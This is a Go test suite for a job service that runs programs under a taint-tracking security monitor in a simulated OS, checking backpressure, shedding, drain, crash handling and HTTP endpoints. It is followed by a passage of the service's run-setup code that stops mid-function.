package hth_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	hth "repro"
	"repro/internal/chaos"
)

// trojanSpec is the canonical warning-producing job: the T4 trojan
// that execs /bin/ls.
func trojanSpec(tenant string) hth.JobSpec {
	return hth.JobSpec{
		Tenant: tenant,
		Programs: map[string]string{
			"/bin/ls":     lsSrc,
			"/bin/trojan": trojanSrc,
		},
		Path: "/bin/trojan",
	}
}

func waitJob(t *testing.T, h *hth.JobHandle) *hth.JobResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res, err := h.Wait(ctx)
	if err != nil {
		t.Fatalf("job %s did not terminate: %v", h.ID(), err)
	}
	return res
}

func drainService(t *testing.T, s *hth.Service) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := s.Drain(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
}

// TestServiceMatchesBatchRun is the zero-chaos identity contract: a
// job through the service produces the same verdict, warnings, and
// step count as a direct System.Run of the same inputs.
func TestServiceMatchesBatchRun(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	batch, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}

	s := hth.NewService(hth.ServiceConfig{})
	defer drainService(t, s)
	h, err := s.Submit(trojanSpec("acme"))
	if err != nil {
		t.Fatal(err)
	}
	res := waitJob(t, h)
	if res.Status != "done" {
		t.Fatalf("status = %q (%+v)", res.Status, res.Error)
	}
	if res.Raw == nil {
		t.Fatal("done job lost its raw result")
	}
	if len(res.Warnings) != len(batch.Warnings) {
		t.Fatalf("service warnings = %d, batch = %d", len(res.Warnings), len(batch.Warnings))
	}
	for i := range res.Warnings {
		if res.Warnings[i].Message != batch.Warnings[i].Message {
			t.Errorf("warning %d: %q != %q", i, res.Warnings[i].Message, batch.Warnings[i].Message)
		}
	}
	if res.TotalSteps != batch.TotalSteps {
		t.Errorf("steps: service %d, batch %d", res.TotalSteps, batch.TotalSteps)
	}
	if res.Outcome != "clean" || res.Verdict != "LOW" {
		t.Errorf("outcome/verdict = %q/%q", res.Outcome, res.Verdict)
	}
	if res.Attempts != 1 || res.Shed != hth.ShedNone {
		t.Errorf("attempts/shed = %d/%d", res.Attempts, res.Shed)
	}
	// The per-job tier mix must partition the batch run's block count,
	// and the fleet health view must aggregate it.
	if res.TierMix == nil {
		t.Fatal("done job carries no tier mix")
	}
	m := *res.TierMix
	if m.Blocks != batch.Stats.Blocks ||
		m.Interp+m.Summary+m.Trace+m.Clean != m.Blocks {
		t.Errorf("tier mix %+v does not partition %d blocks", m, batch.Stats.Blocks)
	}
	if hm := s.Health().TierMix; hm != m {
		t.Errorf("health tier mix %+v, want the single job's %+v", hm, m)
	}
}

// gateSpec returns a spec whose Setup blocks on release, pinning a
// worker deterministically (no sleeps), plus the release function.
func gateSpec(tenant string) (hth.JobSpec, func()) {
	release := make(chan struct{})
	spec := trojanSpec(tenant)
	setup := spec.Programs
	spec.Setup = func(sys *hth.System) {
		<-release
		for p, src := range setup {
			sys.MustInstallSource(p, src)
		}
	}
	spec.Programs = nil
	var once func()
	once = func() { close(release); once = func() {} }
	return spec, func() { once() }
}

func waitRunning(t *testing.T, h *hth.JobHandle) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for h.Status() != "running" {
		if time.Now().After(deadline) {
			t.Fatalf("job %s never started (status %q)", h.ID(), h.Status())
		}
		time.Sleep(time.Millisecond)
	}
}

// TestServiceBackpressure pins the bounded-queue contract: with the
// single worker blocked and the queue full, Submit rejects with a
// typed *OverloadError carrying the Retry-After hint — it never
// blocks and never buffers unboundedly.
func TestServiceBackpressure(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{
		Shards: 1, WorkersPerShard: 1, QueueDepth: 2,
		RetryAfter: 250 * time.Millisecond,
	})
	spec, release := gateSpec("acme")
	h1, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	waitRunning(t, h1)
	for i := 0; i < 2; i++ { // fill the queue behind the blocked worker
		if _, err := s.Submit(trojanSpec("acme")); err != nil {
			t.Fatalf("queue slot %d rejected: %v", i, err)
		}
	}
	_, err = s.Submit(trojanSpec("acme"))
	var over *hth.OverloadError
	if !errors.As(err, &over) {
		t.Fatalf("full queue returned %v, want *OverloadError", err)
	}
	if over.RetryAfter != 250*time.Millisecond || over.Shard != 0 {
		t.Errorf("overload = %+v", over)
	}
	release()
	drainService(t, s)
}

// TestServiceShedLadder drives queue fill through the shed thresholds
// and checks (a) later admissions run at progressively degraded tiers
// and (b) degradation never changes the verdict.
func TestServiceShedLadder(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{
		Shards: 1, WorkersPerShard: 1, QueueDepth: 16,
	})
	// Capacity is 17 (queue + worker); fill crosses 50/75/90 percent
	// at loads 9, 13, and 16.
	spec, release := gateSpec("acme")
	h1, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	waitRunning(t, h1)
	handles := []*hth.JobHandle{h1}
	for i := 2; i <= 17; i++ {
		h, err := s.Submit(trojanSpec("acme"))
		if err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
		handles = append(handles, h)
	}
	release()
	sheds := make([]int, 0, len(handles))
	for _, h := range handles {
		res := waitJob(t, h)
		if res.Status != "done" {
			t.Fatalf("job %s: status %q (%+v)", res.ID, res.Status, res.Error)
		}
		if res.Verdict != "LOW" || len(res.Warnings) != 1 {
			t.Errorf("job %s (shed %d): verdict %q, %d warnings — shedding changed detection",
				res.ID, res.Shed, res.Verdict, len(res.Warnings))
		}
		sheds = append(sheds, res.Shed)
	}
	// Job k was admitted while k-1 jobs occupied the shard.
	for i, want := range map[int]int{
		1: hth.ShedNone, 9: hth.ShedNone,
		10: hth.ShedProvenance, 13: hth.ShedProvenance,
		14: hth.ShedFlight, 16: hth.ShedFlight,
		17: hth.ShedTrace,
	} {
		if got := sheds[i-1]; got != want {
			t.Errorf("job %d admitted at shed %d, want %d", i, got, want)
		}
	}
	drainService(t, s)
}

// TestServiceDrainAbortsQueued pins the no-lost-jobs drain contract:
// the in-flight job finishes with its verdict; queued jobs come back
// as structured aborts; new submissions are rejected with ErrDraining.
func TestServiceDrainAbortsQueued(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{Shards: 1, WorkersPerShard: 1, QueueDepth: 4})
	spec, release := gateSpec("acme")
	h1, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	waitRunning(t, h1)
	var queued []*hth.JobHandle
	for i := 0; i < 3; i++ {
		h, err := s.Submit(trojanSpec("acme"))
		if err != nil {
			t.Fatal(err)
		}
		queued = append(queued, h)
	}

	drained := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		drained <- s.Drain(ctx)
	}()
	// Draining becomes visible to submitters before the pool empties.
	deadline := time.Now().Add(10 * time.Second)
	for {
		_, err := s.Submit(trojanSpec("acme"))
		if errors.Is(err, hth.ErrDraining) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("submit during drain returned %v, want ErrDraining", err)
		}
		time.Sleep(time.Millisecond)
	}
	release()
	if err := <-drained; err != nil {
		t.Fatalf("drain: %v", err)
	}

	if res := waitJob(t, h1); res.Status != "done" || len(res.Warnings) != 1 {
		t.Errorf("in-flight job at drain: %+v", res)
	}
	for _, h := range queued {
		res := waitJob(t, h)
		if res.Status != "aborted" || res.Error == nil || res.Error.Code != hth.JobAborted {
			t.Errorf("queued job %s at drain: status %q error %+v, want structured abort",
				res.ID, res.Status, res.Error)
		}
	}
}

// TestServiceWorkerCrashTypedError pins the crash path: with a chaos
// plan that crashes every worker attempt, the job retries MaxRetries
// times and then terminates in the typed worker-crash error — and the
// recycle streak pushes later admissions to the cheapest tier.
func TestServiceWorkerCrashTypedError(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{
		Shards: 1, WorkersPerShard: 1, QueueDepth: 8,
		MaxRetries: 2, RetryBackoff: time.Millisecond,
		Chaos: &chaos.Plan{Seed: 7, Rate: 1, Only: []chaos.Kind{chaos.WorkerCrash}},
	})
	h, err := s.Submit(trojanSpec("acme"))
	if err != nil {
		t.Fatal(err)
	}
	res := waitJob(t, h)
	if res.Status != "failed" || res.Error == nil || res.Error.Code != hth.JobWorkerCrash {
		t.Fatalf("crash-storm job: status %q error %+v", res.Status, res.Error)
	}
	if res.Attempts != 3 {
		t.Errorf("attempts = %d, want 3 (1 + MaxRetries)", res.Attempts)
	}
	if len(res.ServiceFaults) == 0 {
		t.Error("no service faults recorded on a rate-1 plan")
	}
	hs := s.Health()
	if hs.Shards[0].Recycled < 3 {
		t.Errorf("recycled = %d, want >= 3", hs.Shards[0].Recycled)
	}
	if hs.Shards[0].Streak < 2 {
		t.Errorf("recycle streak = %d, want >= 2", hs.Shards[0].Streak)
	}
	// A sick shard (streak >= 2) admits new work at the cheapest tier.
	h2, err := s.Submit(trojanSpec("acme"))
	if err != nil {
		t.Fatal(err)
	}
	res2 := waitJob(t, h2)
	if res2.Shed != hth.ShedTrace {
		t.Errorf("admission to a sick shard: shed %d, want %d", res2.Shed, hth.ShedTrace)
	}
	drainService(t, s)
}

// TestServiceBadSpec pins the typed rejection of malformed specs,
// including the chaos-injected corruption flavor.
func TestServiceBadSpec(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{})
	defer drainService(t, s)
	var jerr *hth.JobError
	if _, err := s.Submit(hth.JobSpec{}); !errors.As(err, &jerr) || jerr.Code != hth.JobBadSpec {
		t.Errorf("empty spec: %v", err)
	}
	if _, err := s.Submit(hth.JobSpec{Path: "/bin/x"}); !errors.As(err, &jerr) || jerr.Code != hth.JobBadSpec {
		t.Errorf("no-program spec: %v", err)
	}
	spec := trojanSpec("acme")
	spec.DeadlineMS = -1
	if _, err := s.Submit(spec); !errors.As(err, &jerr) || jerr.Code != hth.JobBadSpec {
		t.Errorf("negative deadline: %v", err)
	}
	// A bad program path is a distinct typed error: the spec was
	// well-formed, the program just does not assemble.
	bad := hth.JobSpec{Programs: map[string]string{"/bin/x": "bogus mnemonic"}, Path: "/bin/x"}
	h, err := s.Submit(bad)
	if err != nil {
		t.Fatal(err)
	}
	if res := waitJob(t, h); res.Status != "failed" || res.Error.Code != hth.JobBadProgram {
		t.Errorf("unassemblable program: %+v", res)
	}
}

// TestServiceFlightDumpPerJob pins the satellite: concurrent jobs
// sharing one FlightPath each land their own "<path>.<jobid>" dump
// instead of clobbering a shared file.
func TestServiceFlightDumpPerJob(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "flight.jsonl.gz")
	s := hth.NewService(hth.ServiceConfig{Shards: 1, WorkersPerShard: 2, QueueDepth: 8})
	var handles []*hth.JobHandle
	for i := 0; i < 2; i++ {
		spec := trojanSpec("acme")
		spec.FlightPath = path
		h, err := s.Submit(spec)
		if err != nil {
			t.Fatal(err)
		}
		handles = append(handles, h)
	}
	ids := make([]string, len(handles))
	for i, h := range handles {
		res := waitJob(t, h)
		if res.Status != "done" {
			t.Fatalf("job %s: %+v", res.ID, res.Error)
		}
		ids[i] = res.ID
	}
	drainService(t, s)
	for _, id := range ids {
		want := filepath.Join(dir, "flight."+id+".jsonl.gz")
		if _, err := os.Stat(want); err != nil {
			t.Errorf("per-job flight dump missing: %v", err)
		}
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("untagged shared dump path exists; jobs should not share %s", path)
	}
}

// TestServiceStreamUpdates pins live streaming: a Stream job delivers
// its warnings on the handle's update channel before the terminal
// result, and the channel closes at termination.
func TestServiceStreamUpdates(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{})
	spec := trojanSpec("acme")
	spec.Stream = true
	h, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	if h.Updates() == nil {
		t.Fatal("stream job has no update channel")
	}
	var got []hth.JobUpdate
	for u := range h.Updates() {
		got = append(got, u)
	}
	res := h.Result()
	if res == nil || res.Status != "done" {
		t.Fatalf("closed updates before terminal result: %+v", res)
	}
	if len(got) != 1 || got[0].Event != "warning" || got[0].Rule != "check_execve" {
		t.Errorf("updates = %+v, want the check_execve warning", got)
	}
	if got[0].Severity != "LOW" {
		t.Errorf("update severity = %q", got[0].Severity)
	}
	drainService(t, s)
}

// TestServiceHTTP drives the full HTTP surface: submit-and-wait,
// polling, streaming, malformed JSON, health, and per-tenant metrics.
func TestServiceHTTP(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{})
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()

	body, _ := json.Marshal(trojanSpec("acme"))

	// Submit-and-wait returns the terminal JobResult.
	resp, err := http.Post(srv.URL+"/jobs?wait=1", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	var res hth.JobResult
	if err := json.NewDecoder(resp.Body).Decode(&res); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || res.Status != "done" || res.Verdict != "LOW" {
		t.Fatalf("wait=1: code %d result %+v", resp.StatusCode, res)
	}

	// Async submit returns 202 and the job becomes pollable.
	resp, err = http.Post(srv.URL+"/jobs", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	var acc struct {
		ID string `json:"id"`
	}
	json.NewDecoder(resp.Body).Decode(&acc)
	resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted || acc.ID == "" {
		t.Fatalf("async submit: code %d id %q", resp.StatusCode, acc.ID)
	}
	if h := s.Lookup(acc.ID); h != nil {
		waitJob(t, h)
	}
	resp, err = http.Get(srv.URL + "/jobs/" + acc.ID)
	if err != nil {
		t.Fatal(err)
	}
	var poll struct {
		Status string         `json:"status"`
		Result *hth.JobResult `json:"result"`
	}
	json.NewDecoder(resp.Body).Decode(&poll)
	resp.Body.Close()
	if poll.Status != "done" || poll.Result == nil || poll.Result.Verdict != "LOW" {
		t.Fatalf("poll: %+v", poll)
	}

	// Streaming returns JSONL: accepted, updates, result.
	resp, err = http.Post(srv.URL+"/jobs?stream=1", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := readAll(resp.Body)
	resp.Body.Close()
	lines := strings.Split(strings.TrimSpace(raw), "\n")
	if len(lines) < 3 {
		t.Fatalf("stream lines = %q", raw)
	}
	if !strings.Contains(lines[0], `"event": "accepted"`) && !strings.Contains(lines[0], `"event":"accepted"`) {
		t.Errorf("first stream line %q", lines[0])
	}
	if !strings.Contains(raw, "check_execve") || !strings.Contains(raw, `"result"`) {
		t.Errorf("stream missing warning or result: %q", raw)
	}

	// Malformed JSON is a typed 400.
	resp, err = http.Post(srv.URL+"/jobs", "application/json", strings.NewReader("{nope"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("bad JSON: code %d", resp.StatusCode)
	}

	// Unknown job is 404.
	resp, _ = http.Get(srv.URL + "/jobs/j999999")
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("unknown job: code %d", resp.StatusCode)
	}

	// Health reports the shards.
	resp, err = http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var hs hth.ServiceHealth
	json.NewDecoder(resp.Body).Decode(&hs)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || len(hs.Shards) != 4 || hs.Draining {
		t.Errorf("healthz: code %d %+v", resp.StatusCode, hs)
	}

	// Metrics expose tenant-labelled job counters.
	resp, err = http.Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	prom, _ := readAll(resp.Body)
	resp.Body.Close()
	for _, want := range []string{
		`hth_jobs_submitted_total{tenant="acme"}`,
		`hth_jobs_done_total{tenant="acme"}`,
	} {
		if !strings.Contains(prom, want) {
			t.Errorf("metrics missing %s", want)
		}
	}
	drainService(t, s)
}

// TestServiceHTTPBackpressure pins the 429 + Retry-After rendering of
// a full shard queue.
func TestServiceHTTPBackpressure(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{
		Shards: 1, WorkersPerShard: 1, QueueDepth: 1,
		RetryAfter: 1500 * time.Millisecond,
	})
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()
	spec, release := gateSpec("acme")
	h1, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	waitRunning(t, h1)
	if _, err := s.Submit(trojanSpec("acme")); err != nil {
		t.Fatal(err)
	}
	body, _ := json.Marshal(trojanSpec("acme"))
	resp, err := http.Post(srv.URL+"/jobs", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("full queue over HTTP: code %d, want 429", resp.StatusCode)
	}
	if ra := resp.Header.Get("Retry-After"); ra != "2" { // 1.5s rounds up
		t.Errorf("Retry-After = %q, want 2", ra)
	}
	release()
	drainService(t, s)
}

func readAll(r interface{ Read([]byte) (int, error) }) (string, error) {
	var sb strings.Builder
	buf := make([]byte, 4096)
	for {
		n, err := r.Read(buf)
		sb.Write(buf[:n])
		if err != nil {
			if err.Error() == "EOF" {
				return sb.String(), nil
			}
			return sb.String(), err
		}
	}
}

// TestServiceObserverErrNotSticky is the satellite regression: a
// long-lived JSONL sink shared across pooled runs latched its first
// write error forever, so one tenant's dead pipe poisoned every
// later Result.ObserverErr. The run core now resets sink health at
// setup.
func TestServiceObserverErrNotSticky(t *testing.T) {
	fw := &flakyWriter{failFirst: true}
	sink := hth.JSONL(fw)

	run := func() error {
		sys := hth.NewSystem()
		sys.MustInstallSource("/bin/ls", lsSrc)
		sys.MustInstallSource("/bin/trojan", trojanSrc)
		cfg := hth.DefaultConfig()
		cfg.Observers = []hth.Observer{sink}
		res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/trojan"})
		if err != nil {
			t.Fatal(err)
		}
		return res.ObserverErr
	}
	if err := run(); err == nil {
		t.Fatal("first run on a failing writer reported no ObserverErr")
	}
	if err := run(); err != nil {
		t.Fatalf("ObserverErr stuck across pooled runs: %v", err)
	}
}

type flakyWriter struct {
	failFirst bool
	wrote     bool
}

func (w *flakyWriter) Write(p []byte) (int, error) {
	if w.failFirst && !w.wrote {
		w.wrote = true
		return 0, fmt.Errorf("pipe burst")
	}
	w.failFirst = false
	return len(p), nil
}
