package hth

import (
	"io"
	"sort"
	"strings"
	"time"

	"repro/internal/chaos"
	"repro/internal/harrier"
	"repro/internal/obs"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// runCore is the one normalized setup/teardown path behind System.Run
// and Session: budget application, chaos wiring, the observability
// bus, monitor+policy construction, and Result assembly each exist
// exactly once here.
type runCore struct {
	sys    *System
	cfg    Config
	bus    *obs.Bus
	sec    *secpert.Secpert
	h      *harrier.Harrier
	inj    *chaos.Injector
	flight *obs.Flight
	prov   *obs.Provenance
	intro  *obs.Introspection

	// Span tracing (Config.Spans): the recorder holding this run's
	// phase spans, the parent every phase span hangs under, the root
	// span this core opened itself (0 when an embedding service owns
	// the trace root), and the per-tier execution-time attributor.
	spans      *obs.SpanRecorder
	spanParent uint64
	spanRoot   uint64
	tt         *obs.TierTimer

	introErr error
}

// newRunCore normalizes the configuration and arms the system:
// instruction/wall/descriptor budgets, the event bus (attached to
// every layer, or detached when no observers are configured), the
// chaos injector, and — unless Unmonitored — a fresh Secpert+Harrier
// pair with both the legacy Verbose/TraceAsserts writers and the bus
// text taps wired.
func newRunCore(s *System, cfg Config) *runCore {
	if cfg.MaxSteps == 0 {
		cfg.MaxSteps = 50_000_000
	}
	rc := &runCore{sys: s, cfg: cfg}
	os := s.OS
	os.SetMaxSteps(cfg.MaxSteps)
	// Long-lived sinks shared across pooled runs latch their first
	// write error; clear it here so Result.ObserverErr reports this
	// run's health, not a previous run's.
	obs.ResetErrs(cfg.Observers)
	// The flight recorder and the introspection server ride the same
	// bus as user observers. When introspection is on, the server owns
	// feeding the ring (so /flight and the dump see one stream), and
	// the ring is not attached twice. A run with none of these stays on
	// the nil bus: publish sites pay one nil-check and nothing else.
	sinks := cfg.Observers
	if cfg.FlightSize > 0 || cfg.FlightPath != "" || cfg.Introspect != "" {
		rc.flight = obs.NewFlight(cfg.FlightSize)
		extra := obs.Sink(rc.flight)
		if cfg.Introspect != "" {
			rc.intro = obs.NewIntrospection(rc.flight)
			extra = rc.intro
		}
		sinks = append(append([]Observer(nil), cfg.Observers...), extra)
	}
	if len(sinks) > 0 {
		rc.bus = obs.NewBus(sinks...)
		rc.bus.SetClock(func() uint64 { return os.Clock })
	}
	os.SetBus(rc.bus) // nil detaches a previous run's bus
	if cfg.Deadline > 0 {
		os.SetDeadline(cfg.Deadline)
	}
	if cfg.MaxOpenFDs != 0 {
		os.SetMaxOpenFDs(cfg.MaxOpenFDs)
	}
	if cfg.Chaos != nil {
		rc.inj = chaos.New(*cfg.Chaos)
		rc.inj.SetBus(rc.bus)
		os.SetInjector(rc.inj)
	}
	// Span tracing: a run either grafts its phase spans under an
	// embedding service's job trace (spanRec set, publish hook already
	// installed by the service) or owns a fresh trace rooted at a
	// "run" span mirrored onto this run's own bus.
	var instSpan uint64
	if cfg.Spans {
		rec, parent := cfg.spanRec, cfg.spanParent
		if rec == nil {
			tag := cfg.JobTag
			if tag == "" {
				tag = "run"
			}
			rec = obs.NewSpanRecorder(tag)
			if rc.bus != nil {
				bus := rc.bus
				rec.SetPublish(func(e obs.Event) {
					e.Layer = obs.LayerRun
					bus.Publish(e)
				})
			}
		}
		if parent == 0 {
			parent = rec.StartSpan(0, "run", 0)
			rc.spanRoot = parent
		}
		rc.spans, rc.spanParent = rec, parent
		instSpan = rec.StartSpan(parent, "instrument", 0)
	}
	if !cfg.Unmonitored {
		rc.sec = secpert.New(cfg.Policy, cfg.Advisor)
		rc.wireSecpert()
		rc.h = harrier.New(cfg.Monitor, rc.sec)
		rc.h.SetBus(rc.bus)
		if cfg.Provenance {
			rc.prov = obs.NewProvenance(0)
			rc.h.SetProvenance(rc.prov)
			rc.sec.SetChainResolver(rc.h.ProvenanceChains)
			if cfg.Symbolize {
				// Resolve block addresses against every live process's
				// code map at render time, so chains cite
				// "image:symbol+delta" frames for any image that carries
				// symbols (ELF symtabs, source labels). Resolution is
				// read-only (CodeMap.Symbolize never touches the lookup
				// cache) and a miss falls back to the raw address.
				rc.prov.SetSymbolizer(func(addr uint32) (string, bool) {
					for _, p := range os.Processes() {
						if frame, ok := p.CPU.Code.Symbolize(addr); ok {
							return frame, true
						}
					}
					return "", false
				})
			}
		}
	}
	if rc.spans != nil {
		if rc.h != nil {
			rc.tt = obs.NewTierTimer()
			rc.h.SetTierTimer(rc.tt)
		}
		rc.spans.EndSpan(instSpan, "ok")
	}
	if rc.intro != nil {
		rc.introErr = rc.intro.Start(cfg.Introspect)
	}
	return rc
}

// setupErr reports a configuration failure detected during core
// construction (today: the introspection listener).
func (rc *runCore) setupErr() error { return rc.introErr }

// abort tears down a core whose run never happened: the bus is closed
// (flushing observers) and the introspection server is stopped.
func (rc *runCore) abort() {
	if rc.spans != nil {
		rc.spans.EndSpan(rc.spanRoot, "error")
	}
	rc.bus.Close() // nil-safe
	if rc.intro != nil {
		rc.intro.Shutdown()
	}
}

// wireSecpert connects the expert engine's text output. The deprecated
// Config.Verbose/TraceAsserts writers and the bus taps receive the
// same Write calls through one MultiWriter, which is what makes the
// CLIPSText/CLIPSTranscript sinks byte-identical to the legacy path.
func (rc *runCore) wireSecpert() {
	var out, echo io.Writer
	if rc.cfg.Verbose != nil {
		out = rc.cfg.Verbose
		if rc.cfg.TraceAsserts {
			echo = rc.cfg.Verbose
		}
	}
	if rc.bus != nil {
		out = tee(out, obs.TextWriter(rc.bus, obs.LayerSecpert, obs.KindSecText))
		echo = tee(echo, obs.TextWriter(rc.bus, obs.LayerSecpert, obs.KindSecAssert))
		rc.sec.SetBus(rc.bus)
	}
	if out != nil {
		rc.sec.SetOutput(out)
	}
	if echo != nil {
		rc.sec.SetAssertEcho(echo)
	}
}

func tee(a, b io.Writer) io.Writer {
	if a == nil {
		return b
	}
	return io.MultiWriter(a, b)
}

// start launches one program under this core's monitor (if any),
// publishing the run.start event.
func (rc *runCore) start(spec RunSpec) (*vos.Process, error) {
	var loadSpan uint64
	if rc.spans != nil {
		loadSpan = rc.spans.StartSpan(rc.spanParent, "load", 0)
	}
	if rc.bus != nil {
		rc.bus.Publish(obs.Event{
			Layer: obs.LayerRun, Kind: obs.KindRunStart, Str: spec.Path,
		})
	}
	pspec := vos.ProcSpec{
		Path:  spec.Path,
		Argv:  spec.Argv,
		Env:   spec.Env,
		Stdin: spec.Stdin,
	}
	if rc.h != nil {
		pspec.Monitor = rc.h
		pspec.Store = rc.h.Store
	}
	p, err := rc.sys.OS.StartProcess(pspec)
	if rc.spans != nil {
		status := "ok"
		if err != nil {
			status = "error"
		}
		rc.spans.EndSpan(loadSpan, status)
	}
	return p, err
}

// finish assembles the Result, publishes the end-of-run metric events,
// closes the bus, and snapshots the first attached Metrics registry
// into Result.Metrics.
func (rc *runCore) finish(root *vos.Process, runErr error, wall time.Duration) *Result {
	os := rc.sys.OS
	res := &Result{
		Console:    append([]byte(nil), os.Console...),
		Process:    root,
		TotalSteps: os.TotalSteps,
		RunErr:     runErr,
	}
	if rc.h != nil {
		rc.sec.FinishSession() // commit cross-session history, if any
		res.Warnings = rc.sec.Warnings()
		res.Trace = rc.sec.Trace()
		res.Stats = rc.h.Stats()
		res.Events = rc.h.EventLog()
		res.Secpert = rc.sec
	}
	if rc.inj != nil {
		res.Chaos = rc.inj.Faults()
	}
	if rc.spans != nil {
		// The execute span is synthesized from the wall time the caller
		// measured around the scheduler, with per-tier children carved
		// out of it from the TierTimer's transition-sampled totals (laid
		// end to end — attribution, not a literal timeline). The report
		// span covers Result assembly, which just happened above.
		execEnd := rc.spans.Now()
		execStart := execEnd - wall.Nanoseconds()
		es := rc.spans.AddSpan(rc.spanParent, "execute", execStart, execEnd, runOutcome(runErr))
		if rc.tt != nil {
			ns := rc.tt.Flush()
			cur := execStart
			for i, name := range obs.TierNames {
				rc.spans.AddSpan(es, "tier."+name, cur, cur+ns[i], "")
				cur += ns[i]
			}
		}
		rc.spans.AddSpan(rc.spanParent, "report", execEnd, rc.spans.Now(), "ok")
		rc.spans.EndSpan(rc.spanRoot, runOutcome(runErr)) // no-op for service-owned traces
		res.Spans = rc.spans
	}
	if rc.bus != nil {
		rc.publishRunEnd(runErr, wall)
		res.ObserverErr = rc.bus.Close()
		if ms := obs.FindMetrics(rc.cfg.Observers); len(ms) > 0 {
			res.Metrics = ms[0].Snapshot()
		}
	}
	res.Provenance = rc.prov
	res.Introspection = rc.intro
	if rc.flight != nil {
		res.Flight = rc.flight.Snapshot()
		// Automatic black-box dump: anything abnormal — a warning, a
		// scheduler outcome, a guest fault, or an injected chaos fault
		// — flushes the ring to disk for post-mortem replay.
		if rc.cfg.FlightPath != "" && (len(res.Warnings) > 0 || runErr != nil ||
			(root != nil && root.Fault != nil) || len(res.Chaos) > 0) {
			path := flightDumpPath(rc.cfg.FlightPath, rc.cfg.JobTag)
			if err := rc.flight.DumpFile(path); err != nil && res.ObserverErr == nil {
				res.ObserverErr = err
			}
		}
	}
	return res
}

// publishRunEnd emits the end-of-run snapshot: a final taint-substrate
// sample, the shadow-TLB totals across the process tree, the taint-set
// width distribution, Harrier's instrumentation counters, and the
// closing run.end event. Everything except the wall-clock operand of
// run.end is a deterministic function of the guest execution.
func (rc *runCore) publishRunEnd(runErr error, wall time.Duration) {
	os := rc.sys.OS
	if rc.h != nil {
		_, unions, hits := rc.h.Store.Stats()
		rc.bus.Publish(obs.Event{
			Layer: obs.LayerHarrier, Kind: obs.KindTaintSample,
			Num: unions, Num2: hits,
		})
		var probes, misses uint64
		for _, p := range os.Processes() {
			if sh := p.CPU.Shadow; sh != nil {
				pr, mi := sh.TLBStats()
				probes += pr
				misses += mi
			}
		}
		if probes > 0 {
			rc.bus.Publish(obs.Event{
				Layer: obs.LayerHarrier, Kind: obs.KindTaintTLB,
				Num: probes, Num2: misses,
			})
		}
		widths := rc.h.Store.WidthHistogram()
		ws := make([]int, 0, len(widths))
		for w := range widths {
			ws = append(ws, w)
		}
		sort.Ints(ws)
		for _, w := range ws {
			rc.bus.Publish(obs.Event{
				Layer: obs.LayerRun, Kind: obs.KindMetricBucket,
				Str: "taint.width", Num: uint64(w), Num2: widths[w],
			})
		}
		st := rc.h.Stats()
		for _, g := range [...]struct {
			name string
			v    uint64
		}{
			{"harrier.instructions", st.Instructions},
			{"harrier.blocks", st.Blocks},
			{"harrier.access_events", st.AccessEvents},
			{"harrier.io_events", st.IOEvents},
			{"harrier.tier.promoted", st.TierPromoted},
			{"harrier.tier.pinned", st.TierPinned},
			{"harrier.tier.demoted", st.TierDemoted},
			{"harrier.tier.hits", st.TierHits},
			{"harrier.tier.trace_demoted", st.TierTraceDemoted},
			{"harrier.trace.compiled", st.TraceCompiled},
			{"harrier.trace.hits", st.TraceHits},
			{"harrier.trace.side_exits", st.TraceSideExits},
			{"harrier.gate.skips", st.GateSkips},
			{"harrier.clean.hits", st.CleanHits},
			{"harrier.clean.demoted", st.CleanDemoted},
			{"harrier.clean.reinstrumented", st.Reinstrumented},
		} {
			rc.bus.Publish(obs.Event{
				Layer: obs.LayerRun, Kind: obs.KindMetric,
				Str: g.name, Num: g.v,
			})
		}
	}
	if rc.tt != nil {
